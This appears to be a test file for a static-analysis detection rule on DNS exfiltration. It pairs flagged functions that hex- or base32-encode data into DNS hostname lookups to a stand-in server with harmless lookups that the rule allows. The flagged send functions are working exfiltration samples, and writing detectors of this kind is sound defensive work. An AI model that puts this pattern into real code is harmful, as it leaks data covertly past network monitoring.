import base64
import binascii
import socket

import dns.resolver

SERVER = "d.example.invalid"


def send(data):
    # ruleid: exfiltration/data-in-host-name
    socket.gethostbyname(base64.b32encode(data).decode() + "." + SERVER)


def send_hex(data):
    part = binascii.hexlify(data).decode()
    # ruleid: exfiltration/data-in-host-name
    socket.gethostbyname(f"{part}.{SERVER}")


def send_text(data):
    # ruleid: exfiltration/data-in-host-name
    dns.resolver.resolve(f"{data.hex()}.{SERVER}", "TXT")


def look_up(host):
    # ok: exfiltration/data-in-host-name
    return socket.gethostbyname(host)


def look_up_in(host):
    # ok: exfiltration/data-in-host-name
    return socket.gethostbyname(f"{host}.example.invalid")


def mail_hosts(domain):
    # ok: exfiltration/data-in-host-name
    return dns.resolver.resolve(domain, "MX")


def encoded(data):
    # ok: exfiltration/data-in-host-name
    return base64.b32encode(data).decode() + ".txt"
